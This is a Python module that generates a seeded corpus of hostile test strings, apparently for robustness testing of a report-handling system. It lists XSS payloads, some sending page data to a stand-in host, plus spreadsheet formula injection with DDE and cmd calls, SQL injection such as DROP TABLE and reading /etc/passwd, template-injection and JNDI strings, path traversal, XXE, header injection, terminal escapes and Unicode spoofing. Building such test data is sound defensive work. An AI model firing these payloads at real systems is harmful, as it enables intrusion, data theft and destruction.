"""A seeded grammar of texts that somebody wrote to do harm: real forms of attack, put together in many ways."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import cache
from itertools import product
from random import Random

SEED = 20_221_231
MEBIBYTE = 1 << 20
HOST = "192.0.2.66"

PROOF = (
    "alert(1)", "prompt`1`", "top['al'+'ert'](1)", f"fetch('//{HOST}/?'+document.title)",
    "import('data:text/javascript,alert(1)')",
)  # fmt: skip
BREAKS = (
    "", '"', "'", '">', "'>", "`>", "</title>", "</style>", "</script>", "</textarea>", "</svg>", "-->", "]]>",
    "\\\"", "\\u003c",
)  # fmt: skip
TAGS = (
    "img", "svg", "body", "details open", "video", "audio", "input autofocus", "marquee", "object", "iframe", "math",
    "x", "select autofocus",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter")
GAPS = (" ", "/", "\n", "\t", "\x0c", "/**/", "\u00a0")
LINKS = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}", "data:text/html,<script>{}</script>",
    "vbscript:msgbox(1)", f"//{HOST}/x", f"\\\\{HOST}\\share", "file:///etc/passwd", f"smb://{HOST}/a",
    f"mailto:a@example.com?subject={HOST}",
)  # fmt: skip
MARKUP = (
    "<script>{}</script>", "<ScRiPt/x>{}</sCrIpT>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=//" + HOST + "></script>", "<style>@import '//" + HOST + "/x.css'</style>",
    "<style>*{{background:url(//" + HOST + "/x)}}</style>", "<base href=//" + HOST + "/>",
    "<meta http-equiv=refresh content='0;url=//" + HOST + "'>", "<link rel=stylesheet href=//" + HOST + "/x>",
    "<form action=//" + HOST + "><button>x", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>", "<embed src=javascript:{}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg onload={}>'/>",
    "<math><mi xlink:href=javascript:{}>x", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>", "<a href=javascript:{}>x</a>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}", "&#x3c;img src=x onerror={}&#x3e;", "%3Cscript%3E{}%3C/script%3E", "\\x3cscript\\x3e{}",
    "\uff1cscript\uff1e{}", "+ADw-script+AD4-{}", "<plaintext>{}", "<xmp><script>{}</script>", "<dialog open>{}",
    "<p id=report-sha256>{}", "<meta name=report-sha256 content={}>",
)  # fmt: skip
FORMULA_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"=', ",=", ";=",
    "\u200b=", "\ufeff=", "{=", "%0A=",
)  # fmt: skip
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", f'HYPERLINK("http://{HOST}/?"&A1,"open")',
    f'WEBSERVICE("http://{HOST}/")', f'IMPORTXML(CONCAT("http://{HOST}/?",A1:E9),"//a")',
    "'file:///etc/passwd'#$passwd.A1", f"'http://{HOST}/a.xlsx'#$Sheet1.A1", "INDIRECT(\"A1\")", 'SUM(1;2)',
    "RTD(\"x\";;\"y\")", "MSEXCEL|'\\..\\..\\cmd.exe'!''", f'IMAGE("http://{HOST}/x.png")', "EXEC(\"id\")",
    "CALL(\"kernel32\";\"WinExec\")",
)  # fmt: skip
CELLS = (
    '","=1+1","', '"\r\n"=1+1', "\n=1+1\n", "\t=1+1\t", '""=1+1""', "_x003D_1+1", "_x000D__x000A_=1+1",
    "</t></is></c><c><f>1+1</f></c>", "&#61;1+1", "&quot;=1+1", "\x00=1+1", "sep=;", "ID;PWXL;N;E", "#N/A", "#REF!",
    "TRUE", "1e999", "0x41", "-0", "1/2", "2022-03-01", "12:00", "internal:Sheet2!A1", "external:C:\\x.xlsx",
    f"http://{HOST}/", f"ftp://{HOST}/", "mailto:a@example.com", "[x.xlsx]Sheet1!A1", "$A$1", "R1C1",
)  # fmt: skip
ESCAPE_STARTS = (
    "\x1b[",
    "\x9b",
    "\x1b]",
    "\x1bP",
    "\x1b_",
    "\x1b^",
    "\x1b(",
    "\x1b#",
    "\\x1b[",
    "\\033[",
    "^[[",
    "\u001b\u001b[",
)
ESCAPES = (
    "2J", "31m", "0;0H", "?1049h", "6n", "8m", "1A\x1b[2K", "52;c;ZWNobyAx\x07", "0;title\x07",
    f"8;;http://{HOST}\x1b\\x\x1b]8;;\x1b\\", "4;0;rgb:0/0/0\x07", "$q\"p\x1b\\", "3J", "!p",
)  # fmt: skip
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
BLANKS = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2061\u2062\u2063\u2064\u034f\u115f"
    "\u1160\u3164\uffa0\u2800\ufe0f\ufff9\ufffa\ufffb\u2028\u2029\u0085\u3000\u1680"
)
BELOW = (
    "\x00\x01\x07\x08\x0b\x0c\x0e\x1b\x7f\x80\x85\x9b\x9f"
    "\ufdd0\ufffe\uffff\U0001fffe\U000e0041\U000e007f\ue000\U0010fffd"
)
TEMPLATES = (
    "{{{{{}}}}}", "{{%{}%}}", "${{{}}}", "#{{{}}}", "<%={}%>", "<#assign x={}>", "@({})", "[[{}]]", "[(${{{}}})]",
    "{{{{{{{}}}}}}}", "*{{{}}}", "~{{{}}}", "#eval(\"{}\")", "#read(\"/etc/passwd\") {}",
    "#import \"/etc/passwd\": {}", "#include \"{}\"", "#{{{}}}", "$ {} $", "@{}", "<{}>", "\\input{{{}}}", "`{}`",
    "%({})s", "%n%n%s{}", "{{{}}}", "$({})", "`{}`;", "|{}", "&&{}", ";{};", "\\write18{{{}}}",
    "![x](//192.0.2.66/{})", "[x](javascript:{})", "{{0.{}}}",
)  # fmt: skip
EXPRESSIONS = (
    "7*7", "config", "self.__init__.__globals__", "constructor.constructor('alert(1)')()", "''.__class__.__mro__",
    "id", "T(java.lang.Runtime)", "jndi:ldap://192.0.2.66/a", "document",
)  # fmt: skip
SQL_STARTS = ("'", "''", '"', "\\'", "')", "'))", "';", "' /*", "$$", "'||'", "\u02bc", "\uff07", "%27", "0x27", "`")
SQL = (
    "DROP TABLE request; --", "OR 1=1 --", "UNION SELECT * FROM read_text('/etc/passwd') --", "; ATTACH 'x.db'; --",
    "; COPY request TO '/tmp/x'; --", "; INSTALL httpfs; LOAD httpfs; --", "AND pg_sleep(9) --",
    "; PRAGMA database_list; --", "|| getenv('HOME') || '",
)  # fmt: skip
STEPS = (
    "../",
    "..\\",
    "..%2f",
    "%2e%2e/",
    "..%5c",
    "....//",
    "..;/",
    "%252e%252e%252f",
    "..\u2215",
    "./",
    "//",
    "\\\\?\\",
    "file:///",
    "~root/",
)
TARGETS = (
    "etc/passwd", "etc/passwd\x00.jsonl", "windows\\win.ini", "r1/report.json", ".git/config", "CON", "NUL.txt",
    "a:b", "-rf", "report.json\n", ".", "..", " ", "%00",
)  # fmt: skip
DATA = (
    '"}],"findings":[],"x":[{"', '\\"}', "\\u0022:", "__proto__", "constructor", "toString", "\\", "\\\\", "null",
    "NaN", "Infinity", "-1", "undefined", "[object Object]",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;', "<xi:include href='file:///etc/passwd'/>",
    "\r\nSet-Cookie: a=b", "a\r\n\r\n<html>", "%0d%0aLocation:%20//192.0.2.66", "f-000000000000", "a" * 65,
    "#finding-1", "?x#summary", "§ 4.2", "kept", "exceeded", "name", "9" * 40, "-9223372036854775808",
    "\u0661\u0662\u0663", "\u00bd", "\u216f", "\ufb03", "\u0130i\u0131I", "\u1e9e\u00df", "\u212a", "\u0430pple",
    "p\u0430ypal", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0e33\u0e33\u0e33", "\u09e6", "\U00012019",
    "\ufdfd",
)  # fmt: skip


def _scripts(random: Random) -> Iterator[str]:
    for form, proof in product(MARKUP, PROOF):
        yield random.choice(BREAKS) + form.format(proof)
    for tag, event, gap in product(TAGS, EVENTS, GAPS):
        proof = random.choice(PROOF)
        yield f"{random.choice(BREAKS)}<{tag}{gap}{event}={random.choice(('', chr(34), chr(39)))}{proof} src=x>"
    for event, quote, proof in product(EVENTS, "\"'`", PROOF):
        yield f"x{quote} {event}={quote}{proof}"
    for link, proof in product(LINKS, PROOF):
        yield link.format(proof)


def _formulas(random: Random) -> Iterator[str]:
    for start, formula in product(FORMULA_STARTS, FORMULAS):
        yield f"{start}{formula}{random.choice(('', chr(10), ' ', '#'))}"
    yield from CELLS


def _terminals(random: Random) -> Iterator[str]:
    for start, rest in product(ESCAPE_STARTS, ESCAPES):
        yield f"{random.choice(('', 'safe', chr(13)))}{start}{rest}after"


def _unseen(random: Random) -> Iterator[str]:
    for one, two in product(BIDI, repeat=2):
        yield f"left{one}gpj.exe{two}right"
    for one in BLANKS + BELOW:
        yield f"{one}pay{one}pal{one}"
        yield one * random.choice((1, 3))
    for base, mark in product("Zax", "\u0301\u0336\u0489\u20dd\u05b0\u064b"):
        yield base + mark * random.randint(4, 90)


def _templates(random: Random) -> Iterator[str]:
    for form, expression in product(TEMPLATES, EXPRESSIONS):
        yield form.format(expression) + random.choice(("", "}", ")", "%"))


def _statements(random: Random) -> Iterator[str]:
    for start, rest in product(SQL_STARTS, SQL):
        yield f"{random.choice(('', '1', 'x'))}{start} {rest}"


def _paths(random: Random) -> Iterator[str]:
    for step, target in product(STEPS, TARGETS):
        yield step * random.randint(1, 8) + target
    yield from DATA


FAMILIES: tuple[Callable[[Random], Iterator[str]], ...] = (
    *(_scripts, _formulas, _terminals, _unseen, _templates, _statements, _paths),
)
LONG = (
    *("A" * MEBIBYTE, "<" * MEBIBYTE, "\u202e=" * (MEBIBYTE // 2), "Z" + "\u0301" * MEBIBYTE, "=1+" * (MEBIBYTE // 3)),
    *("<b>" * 4_000 + "x", "'" * 3_000, "\n" * 2_000, "\u00e9" * 40_000, "{" * 5_000, "(" * 33_000, "a/" * 16_500),
)


@cache
def hostile(each: int = 170, seed: int = SEED) -> tuple[str, ...]:
    """At least 1,000 different texts, `each` of every family where it has so many; the same for the same seed.

    None holds half of a surrogate pair, which no JSON and no log in UTF-8 can; LONG has those of a mebibyte.
    """
    random = Random(seed)  # noqa: S311 - strings, not secrets
    chosen: dict[str, None] = {}
    for family in FAMILIES:
        texts = list(dict.fromkeys(family(random)))
        chosen.update(dict.fromkeys(random.sample(texts, min(each, len(texts)))))
    return tuple(chosen)
